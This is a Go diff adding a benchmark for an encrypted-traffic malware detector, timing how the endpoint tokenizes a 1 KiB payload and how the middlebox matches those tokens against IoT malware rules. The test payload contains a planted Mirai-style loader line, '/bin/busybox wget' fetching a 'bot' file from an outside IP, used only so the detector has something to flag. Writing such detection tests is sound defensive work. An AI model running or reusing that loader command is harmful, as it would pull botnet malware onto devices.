@@ -362,3 +362,43 @@ func TestFindSeqProperty(t *testing.T) {
 		t.Error(err)
 	}
 }
+
+// BenchmarkBlindBoxMatch runs the two BlindBox stages on a 1 KiB payload
+// with a Mirai loader inside, under the built-in rules: the endpoint's
+// Tokenize, and the middlebox's MatchTokens over the tokens.
+func BenchmarkBlindBoxMatch(b *testing.B) {
+	rs, err := NewRuleSet(IoTMalwareRules())
+	if err != nil {
+		b.Fatal(err)
+	}
+	tk, err := NewTokenizer([]byte("bench-session-key"))
+	if err != nil {
+		b.Fatal(err)
+	}
+	det, err := NewEncryptedDetector(rs, tk)
+	if err != nil {
+		b.Fatal(err)
+	}
+	payload := bytes.Repeat([]byte("GET /api/v1/state?temp=21.5&hum=40 HTTP/1.1\r\n"), 1024/46+1)[:1024]
+	copy(payload[300:], "/bin/busybox wget http://203.0.113.9/bot ")
+	tokens := tk.Tokenize(payload)
+	if len(det.MatchTokens(tokens)) == 0 {
+		b.Fatal("the planted loader is not detected")
+	}
+	b.Run("tokenize", func(b *testing.B) {
+		b.SetBytes(int64(len(payload)))
+		b.ReportAllocs()
+		b.ResetTimer()
+		for i := 0; i < b.N; i++ {
+			tk.Tokenize(payload)
+		}
+	})
+	b.Run("match", func(b *testing.B) {
+		b.SetBytes(int64(len(payload)))
+		b.ReportAllocs()
+		b.ResetTimer()
+		for i := 0; i < b.N; i++ {
+			det.MatchTokens(tokens)
+		}
+	})
+}
